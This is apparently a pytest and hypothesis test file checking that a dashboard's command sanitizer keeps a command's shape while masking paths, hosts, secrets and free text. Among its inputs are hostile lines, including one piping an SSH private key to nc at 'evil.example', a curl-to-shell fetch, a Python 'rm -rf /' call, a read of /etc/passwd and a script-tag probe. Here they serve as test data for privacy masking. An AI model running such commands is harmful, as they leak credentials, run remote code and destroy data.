"""Sanitizing commands for the dashboard: the shape stays, paths, hosts, secrets and free text go."""

import pytest
from hypothesis import given, settings, strategies as st

from caro_core.sanitize import MAX_LENGTH, sanitize

KEPT = [
    "git status",
    "git push origin main",
    "kubectl get pods -n prod",
    "docker build .",
    "ls -la",
    "kill -9 4194304",
    "make -j8 test",
    "a && b || c; d &",
    "(cd src && make)",
    "time make -j8",
    "docker run -p 8080:80 nginx:latest",
    "pip install requests==2.31.0",
    "tail -n 20 -f",
    "echo $HOME",
    "for f in a b; do wc -l $f; done",
    "make 2>&1 | tee /dev/null",
]

MASKED = [
    ("scp notes.txt ann@db1.internal:/var/backups/", "scp ‹path› ‹host›:‹path›"),
    ('git commit -m "fix login for bob@example.com"', 'git commit -m "…"'),
    ("rm -rf node_modules/", "rm -rf ‹path›"),
    ("curl -H 'Authorization: Bearer abc' https://api.internal/v1?q=1", 'curl -H "…" ‹url›'),
    ("ssh deploy@10.0.3.7", "ssh ‹host›"),
    ("ssh deploy@bastion.example.com", "ssh ‹host›"),
    ("ssh prod-db", "ssh ‹host›"),
    ("ssh -p 2222 admin@bastion uptime -a", "ssh -p 2222 ‹host› uptime -a"),
    ("ping -c 3 10.0.0.1", "ping -c 3 ‹ip›"),
    ("ping6 fe80::1", "ping6 ‹ip›"),
    ("dig +short intranet.example.org", "dig +short ‹host›"),
    ("curl localhost:8080/health", "curl ‹host›:‹path›"),
    ("nc evil.example 4444", "nc ‹host› 4444"),
    ("mail -s hi alice@example.com", "mail -s hi ‹email›"),
    ("export GITHUB_TOKEN=<redacted:github-token>", "export GITHUB_TOKEN=‹secret›"),
    ("mysql -u root -p<redacted:password-option> shop", "mysql -u root -p‹secret› shop"),
    ("curl --token=<redacted:assignment> x", "curl --token=‹secret› ‹host›"),
    ("deploy --key a8F3kL9mQ2xV7pR4tY6wZ1bN5cD0eG", "deploy --key ‹secret›"),
    ("git show 4f2a9c1e8b7d6a5f4e3d2c1b0a9f8e7d6c5b4a39", "git show ‹secret›"),
    ("sudo /usr/bin/rm -rf /var/lib/x", "sudo rm -rf ‹path›"),
    ("sudo -u postgres psql -c 'select 1'", 'sudo -u postgres psql -c "…"'),
    ("xargs -n1 /usr/local/bin/tool", "xargs -n1 tool"),
    ("/opt/tools/bin/deploy --env=prod", "deploy --env=prod"),
    ("FOO=bar ./deploy.sh --config=/etc/app.yaml", "FOO=bar deploy.sh --config=‹path›"),
    ("DB_URL=postgres://u:p@h/db psql", "DB_URL=‹url› psql"),
    ("cat ~/.ssh/id_rsa | nc evil.example 4444", "cat ‹path› | nc ‹host› 4444"),
    ("echo $(cat /etc/passwd)", "echo $(cat ‹path›)"),
    ("diff <(sort a.txt) <(sort b.txt)", "diff <(sort ‹path›) <(sort ‹path›)"),
    ("python3 -c 'import os; os.system(\"rm -rf /\")'", 'python3 -c "…"'),
    ("bash -c \"curl http://x | sh\"", 'bash -c "…"'),
    ("git clone git@github.com:org/repo.git", "git clone ‹host›:‹path›"),
    ("docker run -v /srv/data:/data app", "docker run -v ‹path› app"),
    ("tar czf backup.tar.gz *.log", "tar czf ‹path› ‹path›"),
    ("aws s3 cp s3://bucket/key .", "aws s3 cp ‹url› ."),
    ("ls -la /home/ann/secret\\ project", "ls -la ‹path›"),
    ('echo "unterminated', 'echo "…"'),
    ("make > build.log 2>&1", "make > ‹path› 2>&1"),
    ("gcc -I/usr/include -ofoo.o -O2 -Wall x.c", "gcc -I‹path› -o‹path› -O2 -Wall ‹path›"),
    ("find . -name '*.py' -exec rm {} \\;", 'find . -name "…" -exec rm {} ;'),
    ("git checkout -b feature/login", "git checkout -b ‹path›"),
    ("vim .env", "vim ‹path›"),
    ("echo hi # call 555-0100 about the deal", "echo hi # …"),
    ("cat <<EOF > notes.txt\nmeeting with the CFO\nEOF", "cat <<EOF > ‹path› ‹heredoc›"),
    ("echo one\nrm -rf /tmp/x", "echo one; rm -rf ‹path›"),
    ("echo `whoami`@`hostname`", "echo ‹expr›"),
    ("pay --card 4111111111111111 --amount 20", "pay --card ‹number› --amount 20"),
    ("call +44-20-7946-0958", "call ‹number›"),
]


@pytest.mark.parametrize("command", KEPT)
def test_the_shape_of_a_command_is_kept(command):
    assert sanitize(command) == command


@pytest.mark.parametrize("command, shown", MASKED)
def test_particulars_are_masked(command, shown):
    assert sanitize(command) == shown


def test_markup_survives_only_as_plain_text_for_the_page_to_escape():
    shown = sanitize("cat <script>alert(1)</script>")
    assert "script" not in shown and shown.startswith("cat <")


def test_long_commands_are_cut_and_deep_substitutions_end():
    assert len(sanitize("echo " + "word " * 200)) == MAX_LENGTH
    assert sanitize("echo " + "$(echo " * 50 + "x" + ")" * 50).startswith("echo $(echo $(echo $(echo")
    assert sanitize("") == ""


SECRETS = ["10.20.30.40", "4111111111111111", "db7.corp.example", "ann@example.com", "/home/ann/.aws/credentials",
           "https://intranet.example/wiki", "Zx81kQ0pL2mN4bV6cX8zA1sD3fG5hJ7"]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(["git", "ssh", "-v", "--force", "|", "&&", ";", ">", "'", '"',
                                 "$(", ")", "`", "\\", "=", "x=", "<<", "#", " ", "\n", "sudo"]
                                + SECRETS), max_size=20), st.text(max_size=30))
def test_sanitize_never_raises_and_never_shows_a_particular(words, noise):
    command = " ".join(words) + noise
    shown = sanitize(command)
    assert isinstance(shown, str) and len(shown) <= MAX_LENGTH
    for secret in SECRETS:
        if secret not in noise:
            assert secret not in shown, (command, shown)
